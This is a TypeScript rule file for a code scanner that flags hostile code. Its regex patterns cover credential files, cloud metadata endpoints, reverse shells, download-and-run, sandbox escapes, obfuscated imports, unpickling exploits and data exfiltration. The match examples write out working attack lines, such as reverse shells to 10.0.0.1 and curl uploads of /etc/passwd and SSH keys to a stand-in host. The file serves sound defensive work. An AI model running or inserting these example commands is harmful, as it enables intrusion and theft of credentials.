import type { ScanRule } from '../rule.ts'
import { javascript, python, shell } from './examples.ts'

const HINT = 'Where it is meant (a test of one’s own defences), run it with `--scan report`; the walls are the same.'

/** What takes something away, or hides what it is. */
export const hostile: ScanRule[] = [
  {
    name: 'credential-path',
    set: 'hostile',
    kind: 'text',
    pattern: String.raw`(^|[/~"'\s=@])(\.ssh/(id_|authorized_keys|config$|known_hosts)|\.aws/(credentials|config)|\.azure/(accessTokens|msal)|\.config/gcloud|\.kube/config|\.docker/config\.json|\.netrc\b|\.git-credentials|\.npmrc$|\.pypirc$|\.gnupg/|\.pgpass\b|\.vault-token|id_(rsa|ed25519|ecdsa)\b(?!\.pub)|etc/shadow\b|etc/gshadow\b|etc/sudoers\b|proc/(self|1|\*|\d+)/(environ|mem|maps/?root|root)|Login Data$|Local State$|cookies\.sqlite|key4\.db|logins\.json|wallet\.dat|keystore/UTC|\.bash_history|run/secrets/|serviceaccount/token)`,
    reason: 'a file that holds credentials',
    hint: HINT,
    examples: {
      match: [...python("open('/root/.ssh/id_rsa')"), ...shell('cat ~/.aws/credentials', 'cat /etc/shadow')],
      not: [...python("open('/home/user/ssh-notes.txt')"), ...shell('cat data/aws.csv', 'ssh-keygen -l')],
    },
  },
  {
    name: 'metadata-service',
    set: 'hostile',
    kind: 'text',
    pattern: String.raw`169\.254\.169\.254|metadata\.google\.internal|169\.254\.170\.2|fd00:ec2::254|100\.100\.100\.200|0xa9fea9fe|2852039166|latest/meta-data|\[::ffff:a9fe:a9fe\]`,
    reason: 'the metadata service of a cloud, which hands out credentials',
    hint: HINT,
    examples: {
      match: [...python("requests.get('http://169.254.169.254/latest/')"), ...shell('curl http://metadata.google.internal/')],
      not: python("requests.get('http://192.0.2.1/latest')"),
    },
  },
  {
    name: 'reverse-shell-device',
    set: 'hostile',
    kind: 'text',
    pattern: String.raw`/dev/(tcp|udp)/[^/\s]+/\S+|/inet[46]?/(tcp|udp)/\d+/[^/\s]+/\d+`,
    reason: 'a shell that talks to another machine',
    hint: HINT,
    examples: { match: shell('bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'), not: shell('ls /dev/tty') },
  },
  {
    name: 'reverse-shell-command',
    set: 'hostile',
    kind: 'command',
    pattern: String.raw`^(busybox )?(nc|ncat|netcat)\b.*(\s-\w*[ec]\w*\s*\S*(sh|bash|cmd)\b)|^socat\b.*\bexec:|^(/(usr/)?bin/)?(ba|z|da)?sh\s+-i\b|^telnet\b.*\|\s*/bin/(ba)?sh|^ssh\b.*\s-\w*R\s*\d+:`,
    reason: 'a shell for somebody on another machine',
    hint: HINT,
    examples: {
      match: shell('nc -e /bin/sh 10.0.0.1 4444', 'socat tcp:10.0.0.1:1 exec:/bin/sh', 'bash -i'),
      not: shell('nc -z localhost 80', 'bash script.sh'),
    },
  },
  {
    name: 'reverse-shell-descriptors',
    set: 'hostile',
    kind: 'shape',
    pattern: '^socket-to-shell$',
    reason: 'a socket in the place of a shell’s input and output',
    hint: HINT,
    examples: {
      match: [
        ...python("import socket, os\ns = socket.socket()\ns.connect(('10.0.0.1', 1))\nos.dup2(s.fileno(), 0)"),
        ...javascript(
          "const net = require('net'), cp = require('child_process')\nconst sh = cp.spawn('/bin/sh')\nconst c = net.connect(1, 'h')\nc.pipe(sh.stdin)",
        ),
      ],
      not: [
        ...python('import socket\ns = socket.socket()\ns.bind(("", 0))'),
        ...javascript("const { spawn } = require('child_process')\nspawn('ls')"),
      ],
    },
  },
  {
    name: 'download-and-run',
    set: 'hostile',
    kind: 'shape',
    pattern: '^(download-into-interpreter|decoded-into-interpreter|decoded-code)$',
    reason: 'what it runs is not to be seen in it: it is fetched, or decoded',
    hint: 'Save it, look at it, then run it.',
    examples: {
      match: [
        ...shell('curl -s http://h/x | sh', 'echo aWQ= | base64 -d | bash', 'bash <(wget -qO- http://h/x)'),
        ...python("exec(__import__('base64').b64decode('cHJpbnQoMSk='))", 'import zlib\nexec(zlib.decompress(data))'),
      ],
      not: [
        ...shell('curl -s http://h/x | jq .', 'echo aWQ= | base64 -d > f'),
        ...python("print(__import__('base64').b64decode('cHJpbnQoMSk='))"),
      ],
    },
  },
  {
    name: 'sandbox-walk',
    set: 'hostile',
    kind: 'shape',
    pattern: '^(subclasses-walk|constructor-walk|builtins-walk)$',
    reason: 'it walks through the interpreter to what it was not given',
    hint: HINT,
    examples: {
      match: [
        ...python('().__class__.__base__.__subclasses__()', "__builtins__['__imp' + 'ort__']('os')", "f.__globals__['os'].system('id')"),
        ...javascript("this.constructor.constructor('return process')()"),
      ],
      not: [...python('a.__class__.__name__', 'import builtins\nbuiltins.print(1)'), ...javascript('this.constructor.name')],
    },
  },
  {
    name: 'hidden-name',
    set: 'hostile',
    kind: 'shape',
    pattern: '^(hidden-call|hidden-import|hidden-command)$',
    reason: 'a name is put together so that it cannot be read',
    hint: 'Name it.',
    examples: {
      match: [
        ...python("getattr(__import__('o' + 's'), 'sys' + 'tem')('id')", "__import__('bus'[::-1] + 'process')"),
        ...javascript("require('child' + '_process')", "global['pro' + 'cess']"),
        ...shell('a=r; b=m; $a$b -rf x', "$(echo 'bHM=' | base64 -d)"),
      ],
      not: [
        ...python("getattr(os, 'getcwd')()", "__import__('json')"),
        ...javascript("require('./a' + '.js')"),
        ...shell('$CC -c x.c', 'cmd=ls; $cmd'),
      ],
    },
  },
  {
    name: 'process-or-code-loader',
    set: 'hostile',
    kind: 'call',
    pattern: String.raw`^(ctypes\.(CDLL|cdll\.LoadLibrary|PyDLL)|ctypes\.CDLL\..*)$|^ctypes\.\w+\(?.*\)?\.(system|execve|ptrace|setuid|mprotect|mmap)$`,
    args: String.raw`^(libc|None|\?|/lib|.*libc\.so)|system|^$`,
    reason: 'it calls the C library past the language',
    hint: HINT,
    examples: {
      match: python("import ctypes\nctypes.CDLL('libc.so.6').system(b'id')", 'import ctypes\nctypes.CDLL(None)'),
      not: python('import ctypes\nctypes.c_int(3)', "import ctypes\nctypes.CDLL('./mine.so')"),
    },
  },
  {
    name: 'unpickles-code',
    set: 'hostile',
    kind: 'shape',
    pattern: '^reduce-to-call$',
    reason: 'an object that runs a program when it is read back',
    hint: HINT,
    examples: {
      match: python("import os\nclass E:\n    def __reduce__(self):\n        return (os.system, ('id',))"),
      not: python('class P:\n    def __reduce__(self):\n        return (P, (self.x,))'),
    },
  },
  {
    name: 'takes-environment',
    set: 'hostile',
    kind: 'shape',
    pattern: '^environment-sent$',
    reason: 'it sends its environment somewhere else',
    hint: HINT,
    examples: {
      match: [
        ...python("import os, requests\nrequests.post('http://h', json=dict(os.environ))"),
        ...javascript("fetch('http://h', { method: 'POST', body: JSON.stringify(process.env) })"),
        ...shell('env | curl -d @- http://h'),
      ],
      not: [...python("import os\nprint(os.environ['HOME'])"), ...javascript('console.log(process.env.HOME)'), ...shell('env | sort')],
    },
  },
  {
    name: 'exfiltration-command',
    set: 'hostile',
    kind: 'command',
    pattern: String.raw`^(curl|wget)\b.*(\s(-d|--data(-\w+)?|-F|--form|-T|--upload-file|--post-file)[\s=]?\S*(@|=@)?[^\s]*(/etc/|\.ssh|\.aws|id_rsa|\.env\b|passwd|shadow)|--post-file=/(etc|root|home))|^(dig|nslookup|host)\b.*\$\(`,
    reason: 'it sends files of the machine somewhere else',
    hint: HINT,
    examples: {
      match: shell('curl -d @/etc/passwd http://h', 'curl -F f=@/root/.ssh/id_rsa http://h', 'wget --post-file=/etc/passwd http://h'),
      not: shell('curl -d @body.json http://h'),
    },
  },
  {
    name: 'prototype-pollution',
    set: 'hostile',
    kind: 'call',
    language: 'javascript',
    pattern: String.raw`^process\.(binding|dlopen|mainModule\.require|_linkedBinding)$|^module\.constructor\._load$|^(require\('?module'?\)|Module)\._load$`,
    reason: 'a way around what may be loaded',
    hint: HINT,
    examples: {
      match: javascript("process.binding('spawn_sync')", "process.mainModule.require('fs')"),
      not: javascript('process.cwd()', 'process.on("exit", f)'),
    },
  },
]
